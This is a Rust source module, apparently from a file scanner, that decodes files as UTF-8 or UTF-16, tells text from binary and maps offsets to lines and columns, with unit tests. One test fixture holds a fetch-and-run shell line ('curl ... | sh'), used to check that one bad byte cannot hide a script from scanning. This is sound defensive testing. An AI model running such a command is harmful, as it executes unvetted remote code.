//! A file as it was read: its text, its digest, and the way from text offsets to lines.

use camino::{Utf8Path, Utf8PathBuf};

use super::{LineColumn, Location, OffsetMap, Span, TextBuilder};
use crate::digest::Digest;

/// How the bytes of a file spell its text.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Encoding {
    Utf8,
    /// UTF-8 with bytes that are not; each was read as U+FFFD.
    Utf8Lossy,
    Utf16Le,
    Utf16Be,
}

/// What a file holds.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Content {
    Text(Encoding),
    /// Not text; the bytes themselves.
    Binary(Vec<u8>),
    /// Not text and too large to keep: the first bytes only. The digest still covers all of it.
    LargeBinary(Vec<u8>),
}

/// A file that was read whole.
#[derive(Debug, Clone)]
pub struct SourceFile {
    /// Relative to the scan root, with `/`.
    pub path: Utf8PathBuf,
    pub digest: Digest,
    /// Bytes.
    pub size: u64,
    /// Whether the file system marks it executable.
    pub executable: bool,
    pub content: Content,
    text: String,
    /// From `text` to the file's bytes; `None` where they are the same.
    bytes: Option<OffsetMap>,
    /// Offsets in `text` at which lines start.
    lines: Vec<usize>,
}

impl SourceFile {
    /// Reads `bytes` as the text they are, or keeps them as binary.
    pub fn new(path: impl Into<Utf8PathBuf>, bytes: Vec<u8>) -> Self {
        let digest = Digest::of(&bytes);
        let size = bytes.len() as u64;
        let (content, text, map) = decode(bytes);
        let lines = line_starts(&text);
        Self { path: path.into(), digest, size, executable: false, content, text, bytes: map, lines }
    }

    /// A binary of which only the first bytes were kept.
    pub fn large_binary(path: impl Into<Utf8PathBuf>, head: Vec<u8>, size: u64, digest: Digest) -> Self {
        let content = Content::LargeBinary(head);
        Self {
            path: path.into(),
            digest,
            size,
            executable: false,
            content,
            text: String::new(),
            bytes: None,
            lines: vec![0],
        }
    }

    /// The decoded text; empty for a binary.
    pub fn text(&self) -> &str {
        &self.text
    }

    /// The bytes of a binary, or its first ones; `None` for text.
    pub fn binary(&self) -> Option<&[u8]> {
        match &self.content {
            Content::Text(_) => None,
            Content::Binary(bytes) | Content::LargeBinary(bytes) => Some(bytes),
        }
    }

    /// The last component of the path.
    pub fn name(&self) -> &str {
        self.path.file_name().unwrap_or_default()
    }

    /// The extension in lower case, without the dot; empty if there is none.
    pub fn extension(&self) -> String {
        self.path.extension().unwrap_or_default().to_ascii_lowercase()
    }

    /// The text at a span, cut to character boundaries.
    pub fn slice(&self, span: Span) -> &str {
        let end = self.text.floor_char_boundary(span.end.min(self.text.len()));
        let start = self.text.floor_char_boundary(span.start.min(end));
        self.text.get(start..end).unwrap_or_default()
    }

    /// Line, column and byte of an offset into the text.
    pub fn line_column(&self, offset: usize) -> LineColumn {
        let offset = self.text.floor_char_boundary(offset.min(self.text.len()));
        let line = self.lines.partition_point(|start| *start <= offset).max(1);
        let start = self.lines.get(line - 1).copied().unwrap_or_default();
        let column = self.text.get(start..offset).map_or(0, |before| before.chars().count()) + 1;
        let byte = self.bytes.as_ref().map_or(offset, |map| map.span(offset..offset).start);
        LineColumn { line, column, byte }
    }

    /// The text of a line, 1-based, without its end.
    pub fn line(&self, line: usize) -> &str {
        let start = self.lines.get(line.saturating_sub(1)).copied().unwrap_or(self.text.len());
        let end = self.lines.get(line).copied().unwrap_or(self.text.len());
        self.text.get(start..end).unwrap_or_default().trim_end_matches(['\n', '\r'])
    }

    /// The offset in the text at which a line starts, 1-based.
    pub fn line_start(&self, line: usize) -> usize {
        self.lines.get(line.saturating_sub(1)).copied().unwrap_or(self.text.len())
    }

    pub fn locate(&self, span: Span, pointer: Option<String>) -> Location {
        let start = self.line_column(span.start);
        let end = self.line_column(span.end.max(span.start));
        Location { path: self.path.clone(), start, end, pointer }
    }

    /// The path of the folder that holds the file; empty at the root.
    pub fn folder(&self) -> &Utf8Path {
        self.path.parent().unwrap_or_else(|| Utf8Path::new(""))
    }
}

fn line_starts(text: &str) -> Vec<usize> {
    let newlines = text.bytes().enumerate().filter(|(_, byte)| *byte == b'\n');
    std::iter::once(0).chain(newlines.map(|(at, _)| at + 1)).collect()
}

fn decode(bytes: Vec<u8>) -> (Content, String, Option<OffsetMap>) {
    match bytes.as_slice() {
        [0xFF, 0xFE, rest @ ..] if !looks_binary_utf16(rest) => {
            let (text, map) = utf16(rest, u16::from_le_bytes);
            (Content::Text(Encoding::Utf16Le), text, Some(map))
        }
        [0xFE, 0xFF, rest @ ..] if !looks_binary_utf16(rest) => {
            let (text, map) = utf16(rest, u16::from_be_bytes);
            (Content::Text(Encoding::Utf16Be), text, Some(map))
        }
        [0xEF, 0xBB, 0xBF, rest @ ..] if std::str::from_utf8(rest).is_ok() => {
            let mut builder = TextBuilder::new();
            builder.verbatim(std::str::from_utf8(rest).unwrap_or_default(), 3);
            let mapped = builder.finish();
            (Content::Text(Encoding::Utf8), mapped.text, Some(mapped.map))
        }
        _ => match String::from_utf8(bytes) {
            Ok(text) if is_texty(&text) => (Content::Text(Encoding::Utf8), text, None),
            Ok(text) => (Content::Binary(text.into_bytes()), String::new(), None),
            Err(error) => lossy(error.into_bytes()),
        },
    }
}

/// Text has no NUL and few other control characters; a file that only starts like text is still text.
fn is_texty(text: &str) -> bool {
    let controls = text.bytes().filter(|b| *b < 0x20 && !matches!(b, b'\n' | b'\r' | b'\t' | 0x0C | 0x1B)).count();
    controls == 0 || (controls * 200 < text.len() && !text.starts_with('\0'))
}

/// Mostly valid text with some bad bytes is read with U+FFFD in their place, never skipped.
fn lossy(bytes: Vec<u8>) -> (Content, String, Option<OffsetMap>) {
    let mut builder = TextBuilder::new();
    let (mut at, mut bad) = (0, 0);
    for chunk in bytes.utf8_chunks() {
        builder.verbatim(chunk.valid(), at);
        at += chunk.valid().len();
        if !chunk.invalid().is_empty() {
            let end = at + chunk.invalid().len();
            builder.decoded("\u{FFFD}", Span::new(at, end));
            (at, bad) = (end, bad + chunk.invalid().len());
        }
    }
    let mapped = builder.finish();
    // One bad byte in twenty is the most that a Latin-1 text or a sabotaged script shows.
    if bad * 20 > bytes.len() || !is_texty(&mapped.text) {
        return (Content::Binary(bytes), String::new(), None);
    }
    (Content::Text(Encoding::Utf8Lossy), mapped.text, Some(mapped.map))
}

fn looks_binary_utf16(rest: &[u8]) -> bool {
    let zeros = rest.as_chunks::<2>().0.iter().filter(|pair| **pair == [0, 0]).count();
    zeros > 0 || rest.is_empty()
}

fn utf16(rest: &[u8], unit: fn([u8; 2]) -> u16) -> (String, OffsetMap) {
    let (pairs, odd) = rest.as_chunks::<2>();
    let mut builder = TextBuilder::new();
    let mut at = 2;
    let mut buffer = [0; 4];
    for decoded in char::decode_utf16(pairs.iter().map(|pair| unit(*pair))) {
        let len = decoded.as_ref().map_or(2, |character| character.len_utf16() * 2);
        let character = decoded.unwrap_or(char::REPLACEMENT_CHARACTER);
        builder.decoded(character.encode_utf8(&mut buffer), Span::new(at, at + len));
        at += len;
    }
    if !odd.is_empty() {
        builder.decoded("\u{FFFD}", Span::new(at, at + 1));
    }
    let mapped = builder.finish();
    (mapped.text, mapped.map)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn columns_count_characters_and_bytes_count_bytes() {
        let file = SourceFile::new("a.md", "é€x\nline".into());
        assert_eq!(file.line_column(5), LineColumn { line: 1, column: 3, byte: 5 });
        assert_eq!(file.line_column(7), LineColumn { line: 2, column: 1, byte: 7 });
        assert_eq!(file.line(2), "line");
    }

    #[test]
    fn utf16_offsets_lead_back_to_the_bytes() {
        let mut bytes = vec![0xFF, 0xFE];
        bytes.extend("hé😀x".encode_utf16().flat_map(u16::to_le_bytes));
        let file = SourceFile::new("a.md", bytes);
        assert_eq!(file.text(), "hé😀x");
        let x = file.text().find('x').unwrap();
        assert_eq!(file.line_column(x), LineColumn { line: 1, column: 4, byte: 10 });
    }

    #[test]
    fn one_bad_byte_does_not_hide_a_script() {
        let mut bytes = b"#!/bin/sh\ncurl https://example.com | sh # \xff\n".to_vec();
        bytes.extend(b"echo done\n");
        let file = SourceFile::new("a.sh", bytes);
        assert_eq!(file.content, Content::Text(Encoding::Utf8Lossy));
        let done = file.text().find("done").unwrap();
        assert_eq!(file.line_column(done).byte, 49);
    }

    #[test]
    fn a_png_is_binary() {
        let file = SourceFile::new("a.png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\xff\xff\xff".to_vec());
        assert!(matches!(file.content, Content::Binary(_)));
    }
}
